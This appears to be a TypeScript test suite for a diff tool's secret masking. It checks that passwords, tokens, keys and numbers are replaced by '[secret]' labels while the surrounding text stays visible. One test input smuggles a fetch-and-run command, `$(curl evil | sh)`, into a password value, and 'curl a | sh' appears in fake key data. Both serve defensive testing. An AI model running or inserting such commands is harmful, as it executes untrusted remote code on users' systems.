/** Tests that a secret hides itself, and nothing next to it. */
import { isDeepStrictEqual } from "node:util";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { asSecret, conceal, HIDDEN, isSecret } from "../../../diff/values.js";
import { getDefinition, maskParts, maskVersions } from "../../../provider/index.js";

const SECRET = "x9Qz81mKpW";
const OTHER = "Zt7Rr55TTq";

describe("the versions of a text", () => {
  it.each([
    ["a changed line", `# password=${SECRET}\ncurl a`, `# password=${SECRET}\ncurl b`],
    ["a secret on the changed line", `curl a # password=${SECRET}`, `curl b # password=${SECRET}`],
    ["a secret that moves to another line", `TOKEN=${SECRET}\nmake`, `make\nTOKEN=${SECRET}`],
    ["another secret", `TOKEN=${SECRET} make`, `TOKEN=${OTHER} make`],
    [
      "secrets that change places",
      `A_TOKEN=${SECRET} B_TOKEN=${OTHER}`,
      `A_TOKEN=${OTHER} B_TOKEN=${SECRET}`,
    ],
    ["a secret that is removed", `TOKEN=${SECRET} make`, "make"],
    ["a secret that is replaced by its mask", `TOKEN=${SECRET} make`, "TOKEN=[secret] make"],
    ["one of equal secrets", `A_TOKEN=${SECRET} B_TOKEN=${SECRET}`, `A_TOKEN=${SECRET} B_TOKEN=${OTHER}`],
    ["a list", [`TOKEN=${SECRET}`, "make a"], [`TOKEN=${SECRET}`, "make b"]],
    [
      "a map",
      { headers: [{ name: "X-Token", value: SECRET }] },
      { headers: [{ name: "X-Token", value: OTHER }] },
    ],
    ["a number", { pin: 1, token: 12345 }, { pin: 1, token: 54321 }],
  ])("differ with %s, and do not contain it", (_, before, after) => {
    const shown = maskParts([before, after]);
    expect(shown[0]).not.toEqual(shown[1]);
    for (const secret of [SECRET, OTHER, "12345", "54321"])
      expect(JSON.stringify(shown)).not.toContain(secret);
  });

  it("show everything else", () => {
    expect(maskParts([`# password=${SECRET}\ncurl a`])).toEqual(["# password=[secret]\ncurl a"]);
    expect(maskParts([`A_TOKEN=${SECRET} B_TOKEN=${OTHER} C_TOKEN=${SECRET}`])).toEqual([
      "A_TOKEN=[secret 1] B_TOKEN=[secret 2] C_TOKEN=[secret 1]",
    ]);
    // A secret that is part of an ordinary word elsewhere.
    expect(maskParts(["PASSWORD=deployment1 make deployment1s"])).toEqual([
      "PASSWORD=[secret] make deployment1s",
    ]);
  });

  it("never have a mask that is in a text anyway", () => {
    const [before, after] = maskParts([`TOKEN=${SECRET}`, "TOKEN=[secret 1] [secret]"]);
    expect(before).toBe("TOKEN=[secret 2]");
    expect(after).toBe("TOKEN=[secret 1] [secret]");
  });

  it("keep the lines of a secret of several lines, and say how long a long one is", () => {
    const key = (line: string) =>
      `-----BEGIN PRIVATE KEY-----\n${"MIIB".repeat(16)}\n${line}\n-----END PRIVATE KEY-----`;
    const [before, after] = maskParts([
      `${key("curl a | sh")}\nmake`,
      `${key("curl b | sh")}\nmake`,
    ]) as string[];
    expect(before?.split("\n")).toEqual(["[secret 1]", "[secret 2]", "[secret 3]", "[secret 4]", "make"]);
    expect(after?.split("\n")).toEqual(["[secret 1]", "[secret 2]", "[secret 5]", "[secret 4]", "make"]);
    expect(maskParts([`TOKEN=${"aB3dE5gH".repeat(100)}`])).toEqual(["TOKEN=[secret, 800 characters]"]);
  });

  it("show a command that a shell runs within a secret", () => {
    expect(maskParts([`password="${SECRET}$(curl evil | sh)${OTHER}"`])).toEqual([
      'password="[secret 1]$(curl evil | sh)[secret 2]"',
    ]);
  });

  it("are alike only if they are equal, and contain no secret", () => {
    const secret = fc.constantFrom(SECRET, OTHER, "hV83nsPq01", "[secret]", "[secret 1]", "$TOKEN");
    const line = fc.oneof(
      fc.constantFrom("make", "curl a", "", "echo [secret]", "[secret 2]", "token"),
      secret.map((one) => `DB_PASSWORD=${one} make`),
      secret.map((one) => `curl -H "Authorization: Bearer ${one}" a`),
      fc.tuple(secret, secret).map(([one, two]) => `A_TOKEN=${one};B_TOKEN='${two}'`),
    );
    const text = fc.array(line, { maxLength: 5 }).map((lines) => lines.join("\n"));
    const value = fc.oneof(text, fc.array(text, { maxLength: 3 }), fc.record({ token: text, other: text }));
    fc.assert(
      fc.property(value, value, (before, after) => {
        const masked = maskParts([before, after]);
        expect(isDeepStrictEqual(masked[0], masked[1])).toBe(isDeepStrictEqual(before, after));
        const shown = masked.map((one) => JSON.stringify(one));
        for (const one of [SECRET, OTHER, "hV83nsPq01"]) expect(shown.join()).not.toContain(one);
      }),
    );
  });
});

describe("the arguments of an object", () => {
  const action = getDefinition("Action");
  const commands = (line: string) => [`# password=${SECRET}`, line];
  const args = (more: object) => ({ name: "Build", type: "BUILD", ...more });

  it("show what the file contains in plaintext next to a secret", () => {
    const { versions, open } = maskVersions(action, [
      args({ executeCommands: conceal(commands("curl a")) }),
      args({ executeCommands: conceal(commands("curl b")) }),
    ]);
    expect(versions.map((one) => one?.["executeCommands"])).toEqual([
      ["# password=[secret]", "curl a"],
      ["# password=[secret]", "curl b"],
    ]);
    expect([...open]).toEqual(["executeCommands"]);
  });

  it("show nothing of a side that is not known, and all of the new one", () => {
    const { versions } = maskVersions(action, [
      args({ executeCommands: asSecret(commands("curl a")) }),
      args({ executeCommands: conceal(commands("curl b")) }),
    ]);
    expect(versions[0]?.["executeCommands"]).toBe(HIDDEN);
    expect(versions[1]?.["executeCommands"]).toEqual(["# password=[secret]", "curl b"]);
  });

  it("show what the file declares instead of a former secret, and nothing that was found in its place", () => {
    const sides = [args({ executeCommands: asSecret(["curl a"]) }), args({ executeCommands: ["curl b"] })];
    const shown = (declared?: number) => maskVersions(action, sides, declared);
    expect(shown(1).versions[1]?.["executeCommands"]).toEqual(["curl b"]);
    expect([...shown(1).open]).toEqual(["executeCommands"]);
    expect([...shown().open]).toEqual([]);
    const variable = [
      { key: "A", value: asSecret("one"), encrypted: true },
      { key: "A", value: "one", encrypted: false },
    ];
    expect([...maskVersions(getDefinition("Variable"), variable, 1).open]).toEqual([]);
  });

  it("hide what is secret by definition", () => {
    const variable = getDefinition("Variable");
    const { versions } = maskVersions(variable, [
      { key: "A", value: conceal("one"), encrypted: true },
      { key: "API_TOKEN", value: conceal(SECRET) },
    ]);
    for (const one of versions) expect(isSecret(one?.["value"])).toBe(true);
  });

  it("show the known parts of passed-through data, without what is random", () => {
    const fields = (host: string) => ({
      url: host,
      target: ["q7RtV2mZx9Lp", "B4nKs8WcD3fH"].join(""),
      method: "POST",
    });
    const { versions } = maskVersions(action, [args({ fields: conceal(fields("https://a")) })]);
    expect(versions[0]?.["fields"]).toEqual({ url: "https://a", target: "[secret]", method: "POST" });
    expect(
      isSecret(maskVersions(action, [args({ fields: fields("https://a") })]).versions[0]?.["fields"]),
    ).toBe(true);
  });
});
